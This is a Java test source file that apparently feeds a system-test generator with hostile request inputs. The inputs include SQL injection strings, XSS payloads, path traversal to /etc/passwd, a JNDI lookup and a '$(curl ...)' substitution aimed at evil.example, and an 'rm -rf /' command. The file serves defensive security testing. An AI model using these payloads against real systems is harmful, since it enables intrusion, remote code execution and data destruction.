package org.motcua.systemtests;

import java.util.List;

/** The hostile strings and bytes the generator puts into requests. */
final class HostilePayloads {

    private HostilePayloads() {
    }

    /** SQL injection, script injection, path traversal, template and command injection, format strings. */
    static final List<String> TEXTS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE dossier; --",
            "1; DELETE FROM outbox_event WHERE 1=1",
            "\" OR \"\"=\"",
            "' UNION SELECT table_name, null FROM information_schema.tables --",
            "admin'--",
            "1' AND pg_sleep(5)--",
            "$$; COPY (SELECT 1) TO PROGRAM 'id'; $$",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "<svg/onload=fetch('//evil.example')>",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}{{7*7}}${7*7}",
            "%s%s%s%n%x",
            "; rm -rf / #",
            "$(curl evil.example)",
            "\u0000\u0001\u0002",
            "\u202Egnp.exe",
            "Robert'); DROP TABLE Students;--",
            "{\"$where\": \"sleep(1000)\"}");

    /** Names of properties no request record has. */
    static final List<String> UNKNOWN_NAMES = List.of("isAdmin", "__proto__", "constructor", "$where", "role",
            "status ", "id", "' OR 1=1 --", "<script>", "approved", "x".repeat(300), "");

    /** Hostile path segments (before percent-encoding). */
    static final List<String> PATH_IDS = List.of("' OR '1'='1", "1;DROP TABLE dossier", "<script>alert(1)</script>",
            "..", "../../etc/passwd", "%00", "null", "undefined", "-1", "0", "99999999999999999999", "1e9", "NaN",
            " ", "x".repeat(1500), "\uD83D\uDE00", "\u0000", "Ω≈ç√", "%", "?", "#", "\\", "SGDDT-' OR 1=1");

    /** Byte sequences that are not UTF-8: stray continuation, invalid start bytes, truncated, encoded surrogate. */
    static final List<byte[]> INVALID_UTF8 = List.of(new byte[] {(byte) 0x80}, new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xFE, (byte) 0xFF}, new byte[] {(byte) 0xC3, (byte) 0x28},
            new byte[] {(byte) 0xE2, (byte) 0x28, (byte) 0xA1}, new byte[] {(byte) 0xF0, (byte) 0x28, (byte) 0x8C},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80,
                    (byte) 0x80, (byte) 0x80});

    /** JSON string escapes of lone or reversed surrogates: not Unicode text. */
    static final List<String> LONE_SURROGATES = List.of("\\ud800", "\\udfff", "\\udc00\\ud800", "a\\ud83d", "\\ud83db");
}
